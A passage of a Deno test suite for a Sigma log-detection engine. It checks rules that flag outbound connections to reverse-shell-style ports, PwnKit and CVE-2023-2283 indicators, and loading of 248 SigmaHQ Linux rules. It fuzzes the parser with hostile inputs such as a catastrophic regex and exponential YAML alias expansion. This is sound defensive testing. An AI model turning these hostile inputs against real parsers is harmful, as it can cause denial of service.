      hits(net, { Initiated: "true", DestinationPort: "2222", DestinationIp: "2001:db8::1" }),
      [title],
    );
    assertEquals(
      hits(net, { Initiated: true, DestinationPort: 4444, DestinationIp: "10.1.2.3" }),
      [],
    );
    assertEquals(
      hits(net, { Initiated: true, DestinationPort: 4444, DestinationIp: "fe80::1" }),
      [],
    );
    assertEquals(
      hits(net, { Initiated: true, DestinationPort: 4445, DestinationIp: "203.0.113.5" }),
      [],
    );
    assertEquals(
      hits(net, { Initiated: false, DestinationPort: 4444, DestinationIp: "203.0.113.5" }),
      [],
    );
  });

  await t.step("keyword rules: sshd message, and '|all' keywords on auth", () => {
    const sshd = { product: "linux", service: "sshd" };
    assertEquals(hits(sshd, {}, "sshd[812]: error: Failed to generate curve25519 keys"), [
      "Potential CVE-2023-2283 Exploitation",
    ]);
    assertEquals(hits(sshd, {}, "sshd[812]: Accepted publickey for root"), []);
    const auth = { product: "linux", service: "auth" };
    const line = "pkexec[1]: alice: The value for environment variable XAUTHORITY contains " +
      "suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/alice]";
    assertEquals(hits(auth, {}, line), ["PwnKit Local Privilege Escalation"]);
    assertEquals(hits(auth, {}, line.replace("pkexec", "sudo")), []);
  });
});

Deno.test("all 248 SigmaHQ Linux rules load and compile", async () => {
  const dir = new URL("rules/", SHARED).pathname;
  let present = false;
  try {
    present = (await Deno.stat(dir)).isDirectory;
  } catch {
    present = false;
  }
  if (!requirePart(`the SigmaHQ rules in ${dir}`, present)) return;
  const { rules, correlations, errors } = await loadRules([dir]);
  assertEquals(errors.map((e) => e.format()), []);
  assertEquals(rules.length, 248);
  assertEquals(correlations.length, 0);
  // Cross-check with the index shipped next to the rules: same ids, same logsources.
  const index = (await Deno.readTextFile(new URL("linux_rules_index.tsv", SHARED)))
    .trim().split("\n").slice(1).map((l) => l.split("\t"));
  assertEquals(index.length, 248);
  const byId = new Map(rules.map((r) => [r.id, r]));
  for (const [path, id, category, service] of index) {
    const r = byId.get(id);
    assert(r, `rule ${id} (${path}) was not loaded`);
    assert(r.file.endsWith(path), `${id}: ${r.file} vs ${path}`);
    assertEquals(
      [r.logsource.category ?? "", r.logsource.service ?? ""],
      [category, service],
      path,
    );
  }
  // Every rule runs against an event of its logsource without throwing.
  const set = new RuleSet(rules);
  for (const r of rules) {
    set.match(
      ev({ CommandLine: "x", Image: "/bin/x", type: "EXECVE" }, { logsource: r.logsource }),
    );
  }
});

Deno.test("under a scoped --allow-env, YAML_ENV_VARS is what loading needs", async () => {
  const mod = new URL("../../mod/logs/sigma/mod.ts", import.meta.url).href;
  const config = new URL("../../deno.json", import.meta.url).pathname;
  const code = `
import { parseRules, YAML_ENV_VARS } from ${JSON.stringify(mod)};
const r = parseRules("title: a\\nlogsource: {}\\ndetection: {s: {A: 1}, condition: s}\\n", "x.yml");
console.log(JSON.stringify({ rules: r.rules.length, errors: r.errors.map((e) => e.format()), vars: YAML_ENV_VARS }));
`;
  // `deno eval` runs with every permission, so this one is a file under `deno run`.
  const dir = await Deno.makeTempDir();
  const script = `${dir}/probe.ts`;
  await Deno.writeTextFile(script, code);
  const run = async (env: string) => {
    const out = await new Deno.Command(Deno.execPath(), {
      args: [
        "run",
        "--no-prompt",
        "--allow-read",
        `--allow-env=${env}`,
        "--config",
        config,
        script,
      ],
      stdout: "piped",
      stderr: "piped",
    }).output();
    assert(out.success, new TextDecoder().decode(out.stderr));
    return JSON.parse(new TextDecoder().decode(out.stdout));
  };
  // Without them the yaml library would throw NotCapable; it is reported instead.
  assertEquals(await run("HOME"), {
    rules: 0,
    errors: [
      "x.yml: E_PERMISSION: Parsing YAML needs env access to LOG_TOKENS, LOG_STREAM (the yaml " +
      "library reads them); add them to --allow-env",
    ],
    vars: ["LOG_TOKENS", "LOG_STREAM"],
  });
  assertEquals((await run("HOME,LOG_TOKENS,LOG_STREAM")).rules, 1);
  await Deno.remove(dir, { recursive: true });
});

Deno.test("a catastrophic regex finishes quickly under the agent's V8 flag", async () => {
  const mod = new URL("../../mod/logs/sigma/mod.ts", import.meta.url).href;
  const config = new URL("../../deno.json", import.meta.url).pathname;
  const code = `
import { parseRules, RuleSet } from ${JSON.stringify(mod)};
const { rules, errors } = parseRules(
  "title: redos\\nlogsource: {product: linux}\\ndetection:\\n  sel:\\n    CommandLine|re: '(a+)+$'\\n  condition: sel\\n",
);
if (errors.length > 0) throw new Error(errors[0].format());
const set = new RuleSet(rules);
const event = (s) => ({ source: "replay", logsource: { product: "linux" }, ts: "", message: "", fields: { CommandLine: s } });
const t0 = performance.now();
const bad = set.match(event("a".repeat(30) + "!")).length;
const ms = performance.now() - t0;
const good = set.match(event("aaaa")).length;
console.log(JSON.stringify({ ms, bad, good }));
`;
  const started = performance.now();
  const out = await new Deno.Command(Deno.execPath(), {
    args: [
      "eval",
      "--v8-flags=--enable-experimental-regexp-engine-on-excessive-backtracks",
      "--config",
      config,
      code,
    ],
    stdout: "piped",
    stderr: "piped",
    // Without the flag this would run for minutes; never let it hang the suite.
    signal: AbortSignal.timeout(30_000),
  }).output();
  const wall = performance.now() - started;
  const stderr = new TextDecoder().decode(out.stderr);
  assert(out.success, stderr);
  const r = JSON.parse(new TextDecoder().decode(out.stdout).trim());
  assertEquals([r.bad, r.good], [0, 1]);
  assert(r.ms < 250, `the match took ${r.ms} ms`);
  assert(wall < 10_000, `the subprocess took ${wall} ms`);
  assertMatch(String(r.ms), /^\d+(\.\d+)?$/);
});

// --- Fuzzing (issue 16): hostile rule text never throws anything but RuleError, in time
// linear in its size. Inputs that found bugs are kept in tests/fixtures/fuzz/sigma/ and replayed
// first; `FUZZ_RUNS` scales the runs (CI uses the defaults below).

const FUZZ_CORPUS = new URL("../fixtures/fuzz/sigma/", import.meta.url);
const FUZZ_SCALE = Number(Deno.env.get("FUZZ_RUNS_SCALE") ?? "1");
const fuzzRuns = (n: number) => Math.max(1, Math.round(n * FUZZ_SCALE));

/** Load `text` as a rule file; fails on any throw, on a non-RuleError, or past the budget. */
function loadsSafely(text: string, what: string): void {
  const t0 = performance.now();
  let errors: unknown[];
  try {
    errors = parseRules(text, "fuzz.yml").errors;
  } catch (e) {
    throw new Error(
      `${what}: threw ${e instanceof Error ? e.stack : e}\ninput: ${JSON.stringify(text)}`,
    );
  }
  const ms = performance.now() - t0;
  for (const e of errors) {
    assert(e instanceof RuleError, `${what}: a non-RuleError was reported: ${e}`);
  }
  // Linear: 100 ms of slack for the first call's warm-up, then 20 µs per character.
  const budget = 100 + text.length * 0.02;
  assert(ms < budget, `${what}: ${ms.toFixed(0)} ms for ${text.length} chars (budget ${budget})`);
}

/** Real rules to mutate: the SigmaHQ fixtures and the shipped rules. */
async function seedRules(): Promise<string[]> {
  const out: string[] = [];
  for (const dir of [new URL("sigmahq/", FIXTURES), new URL("../../rules/", import.meta.url)]) {
    for await (const e of Deno.readDir(dir)) {
      if (e.name.endsWith(".yml")) out.push(await Deno.readTextFile(new URL(e.name, dir)));
    }
  }
  return out.sort();
}

/** Pieces of YAML and Sigma syntax that splice into a rule where it hurts. */
const NASTY = [
  "---\n",
  "\n",
  ": ",
  "- ",
  "|re: ",
  "|re|i: ",
  "|contains|all: ",
  "|base64offset: ",
  "|cidr: ",
  "|expand: ",
  "*",
  "?",
  "\\",
  "'",
  '"',
  "{",
  "}",
  "[",
  "]",
  "&a ",
  "*a",
  "!!binary ",
  "!!js/regexp ",
  "? ",
  "%YAML 1.2\n",
  "action: global\n",
  "action: repeat\n",
  "correlation:\n",
  "condition: ",
  "1 of ",
  "all of them",
  "not ",
  "(",
  ")",
  " and ",
  " or ",
  "|",
  "(?=",
  "\\1",
  "(a+)+$",
  "\t",
  "\u0000",
  "\ud800",
  "\uffff",
  "é",
  "0x1F",
  "1e999",
  "-.inf",
  "~",
  "null",
  "<<: *a\n",
];

Deno.test("fuzz: Sigma rule files never throw, and load in linear time", async (t) => {
  await t.step("corpus of inputs that found bugs", async () => {
    let n = 0;
    for await (const e of Deno.readDir(FUZZ_CORPUS)) {
      if (!e.isFile || e.name.endsWith(".md")) continue;
      loadsSafely(await Deno.readTextFile(new URL(e.name, FUZZ_CORPUS)), e.name);
      n++;
    }
    assert(n > 0, "the corpus is empty");
  });

  await t.step("arbitrary text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 400 }), (s) => loadsSafely(s, "text")),
      { numRuns: fuzzRuns(1500) },
    );
  });

  const seeds = await seedRules();
  await t.step("real rules, mutated", () => {
    const edit = fc.record({
      at: fc.nat(),
      cut: fc.nat({ max: 12 }),
      insert: fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: "binary", maxLength: 6 })),
    });
    fc.assert(
      fc.property(
        fc.constantFrom(...seeds),
        fc.array(edit, { minLength: 1, maxLength: 8 }),
        (seed, edits) => {
          let s = seed;
          for (const e of edits) {
            const at = e.at % (s.length + 1);
            s = s.slice(0, at) + e.insert + s.slice(at + e.cut);
          }
          loadsSafely(s, "mutated rule");
        },
      ),
      { numRuns: fuzzRuns(2000) },
    );
  });

  await t.step("YAML aliases and anchors (exponential expansion is refused)", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 30 }),
        fc.integer({ min: 2, max: 10 }),
        (depth, fan) => {
          let s = "title: laughs\nlogsource: {product: linux}\nx0: &a0 [lol]\n";
          for (let i = 1; i <= depth; i++) {
            s += `x${i}: &a${i} [${Array(fan).fill(`*a${i - 1}`).join(", ")}]\n`;
          }
          s += `detection:\n  sel:\n    A: *a${depth}\n  condition: sel\n`;
          loadsSafely(s, `aliases ${depth}x${fan}`);
          // Small expansions still work; large ones are refused, not expanded.
          // (a list of lists is not a Sigma value: E_VALUE, after the aliases resolved).
          const codes = parseRules(s, "a.yml").errors.map((e) => e.code);
          const n = fan ** depth;
          const want = n <= 1000 ? ["E_VALUE"] : n >= 100_000 ? ["E_YAML"] : ["E_VALUE", "E_YAML"];
          assert(codes.length > 0 && codes.every((c) => want.includes(c)), `${codes} for ${n}`);
        },
      ),
      { numRuns: fuzzRuns(60) },
    );
  });
});

/** A rule with search identifiers sel, sel_a, sel_b, filter, _hidden and this condition. */
function conditionRule(condition: string): string {
  return "title: c\nlogsource: {product: linux}\ndetection:\n" +
    "  sel: {A: 1}\n  sel_a: {B: 2}\n  sel_b: {C: 3}\n  filter: {D: 4}\n  _hidden: {E: 5}\n" +
    `  condition: ${JSON.stringify(condition)}\n`;
}

Deno.test("fuzz: Sigma conditions never throw, and parse in linear time", async (t) => {
  const token = fc.constantFrom(
    "sel",
    "sel_a",
    "sel_b",
    "filter",
    "_hidden",
    "nope",
    "sel*",
    "*",
    "them",
    "and",
    "or",
    "not",
    "1",
    "all",
    "any",
    "of",
    "(",
    ")",
    "|",
    "count()",
    ">",
    "5",
    "AND",
    "Not",
    "2 of",
  );
  await t.step("token soup", () => {
    fc.assert(
      fc.property(fc.array(token, { maxLength: 40 }), (toks) => {
        const text = conditionRule(toks.join(" "));
        loadsSafely(text, "condition");
        // What parses must also run: the compiled closure never throws either.
        const { rules } = parseRules(text, "c.yml");
        const set = new RuleSet(rules);
        set.match(ev({ A: 1, B: 2, D: 4 }, { logsource: { product: "linux" } }));
      }),
      { numRuns: fuzzRuns(3000) },
    );
  });

  await t.step("arbitrary condition text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 80 }), (s) => {
        loadsSafely(conditionRule(s), "condition text");
      }),
      { numRuns: fuzzRuns(1500) },
    );
  });

  await t.step("deep nesting and long chains stay linear", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("(", "not ", "not (", "( not "),
        fc.integer({ min: 1, max: 20_000 }),
        (open, depth) => {
          const close = open.includes("(") ? ")" : "";
          const cond = open.repeat(depth) + "sel" + close.repeat(depth);
          loadsSafely(conditionRule(cond), `nesting ${JSON.stringify(open)} x ${depth}`);
        },
      ),
      { numRuns: fuzzRuns(40) },
    );
    for (const n of [1000, 16_000]) {
      loadsSafely(conditionRule(Array(n).fill("sel").join(" and ")), `chain ${n}`);
      loadsSafely(conditionRule(Array(n).fill("sel_a or not sel_b").join(" and ")), `mix ${n}`);
    }
  });
});

Deno.test("fuzz: Sigma regexes compile or are refused, and match in linear time", async (t) => {
  const { compileRegex } = await import("../../mod/logs/sigma/regex.ts");
  const piece = fc.constantFrom(
    "a",
    "b",
    ".",
    "*",
    "+",
    "?",
    "{2,}",
    "{1,3}",
    "(",
    ")",
    "(?:",
    "(?=",
    "(?!",
    "(?<=",
    "(?<!",
    "(?i)",
    "(?s)",
    "(?P<n>",
    "\\1",
    "\\k<n>",
    "[",
    "]",
    "[^",
    "^",
    "$",
    "|",
    "\\",
    "\\d",
    "\\w",
    "\\s",
    "\\b",
    "\\p{L}",
    "\\x{41}",
    "\\u0041",
    "\\Z",
    "*+",
    "++",
    "\u0000",
    "\ud800",
  );
  // Mostly well-formed patterns (nested groups and quantifiers, the ReDoS shapes), with the
  // token soup above mixed in for the malformed ones.
  const { re: wellFormed } = fc.letrec((tie) => ({
    atom: fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom("a", "b", ".", "\\d", "\\w", "\\s", "[ab]", "[^!]") },
      { weight: 2, arbitrary: tie("re").map((r) => `(${r})`) },
      { weight: 1, arbitrary: tie("re").map((r) => `(?:${r})`) },
    ),
    quantified: fc.tuple(
      tie("atom"),
      fc.constantFrom("", "", "*", "+", "?", "{1,3}", "{2,}", "*?", "+?"),
    ).map(([a, q]) => `${a}${q}`),
    seq: fc.array(tie("quantified"), { minLength: 1, maxLength: 4 }).map((x) => x.join("")),
    re: fc.array(tie("seq"), { minLength: 1, maxLength: 3 }).map((x) => x.join("|")),
  }));
  const pattern = fc.oneof(
    {
      weight: 3,
      arbitrary: fc.tuple(
        fc.constantFrom("", "^", "(?i)"),
        wellFormed as fc.Arbitrary<string>,
        fc.constantFrom("", "$"),
      ).map((x) => x.join("")),
    },
    { weight: 1, arbitrary: fc.array(piece, { maxLength: 16 }).map((x) => x.join("")) },
  );
  let compiled = 0;
  await t.step("patterns never throw; what compiles runs on hostile text within budget", () => {
    fc.assert(
      fc.property(
        pattern,
        fc.record({ i: fc.boolean(), m: fc.boolean(), s: fc.boolean() }),
        fc.string({ unit: "binary", maxLength: 64 }),
        (source, flags, text) => {
          const re = compileRegex(source, flags);
          if ("message" in re) {
            assert(typeof re.message === "string" && re.offset >= 0, JSON.stringify(re));
            return;
          }
          compiled++;
          const hostile = text + "a".repeat(20_000) + "!" + text;
          const t0 = performance.now();
          re.test(hostile);
          const ms = performance.now() - t0;
          assert(ms < 250, `${ms.toFixed(0)} ms for /${source}/`);
        },
      ),
      { numRuns: fuzzRuns(1000) },
    );
    assert(compiled > fuzzRuns(1000) / 2, `only ${compiled} patterns compiled`);
  });
});
